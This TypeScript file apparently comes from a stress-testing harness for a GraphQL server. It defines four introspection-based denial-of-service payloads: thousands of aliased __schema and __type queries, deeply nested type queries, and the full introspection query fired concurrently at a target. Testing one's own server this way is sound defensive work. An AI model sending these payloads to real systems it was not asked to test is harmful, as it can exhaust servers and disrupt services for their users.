import { getIntrospectionQuery } from "graphql";
import { type Attack, times } from "../attack.js";
import { createSender, repeat } from "../http.js";

const typeReference = `fragment R on __Type { kind name ofType { kind name ofType { kind name ofType { kind name ofType { kind name } } } } }`;
const fullSchema = `fragment F on __Schema { queryType { name } types { kind name description fields(includeDeprecated: true) { name description args { name description type { ...R } defaultValue } type { ...R } } inputFields { name type { ...R } } enumValues(includeDeprecated: true) { name description } possibleTypes { ...R } } directives { name args { name type { ...R } } } } ${typeReference}`;

/** Introspection, which bypasses our resolvers. */
export const introspectionAttacks: readonly Attack[] = [
  {
    id: "K2",
    title: "4,600 aliases of __schema with the usual fragment",
    seconds: 30,
    run: async (target) => {
      const { send } = createSender(target, 1);
      const query = `{${times(4_600, (index) => `a${index}:__schema{...F}`)}} ${fullSchema}`;
      await repeat(target, { concurrency: 1, count: 3 }, () => send({ query }));
    },
  },
  {
    id: "introspection-types",
    title: "1,400 aliases of __type with all fields",
    seconds: 12,
    run: async (target) => {
      const { send } = createSender(target, 2);
      const query = `{${times(1_400, (index) => `a${index}:__type(name:"Paper"){fields{name description type{fields{name}}}}`)}}`;
      await repeat(target, { concurrency: 2 }, () => send({ query }));
    },
  },
  {
    id: "introspection-nested",
    title: "types { fields { type { fields { type … nested nine times",
    seconds: 12,
    run: async (target) => {
      const { send } = createSender(target, 2);
      let nested = "name";
      for (let level = 0; level < 9; level++)
        nested = `name fields { name type { ${nested} ofType { ${level < 5 ? nested : "name"} } } }`;
      await repeat(target, { concurrency: 2 }, () => send({ query: `{ __schema { types { ${nested} } } }` }));
    },
  },
  {
    id: "introspection-full",
    title: "the full introspection query, 20 at once",
    seconds: 10,
    run: async (target) => {
      const { send } = createSender(target, 20);
      await repeat(target, { concurrency: 20 }, () => send({ query: getIntrospectionQuery() }));
    },
  },
];
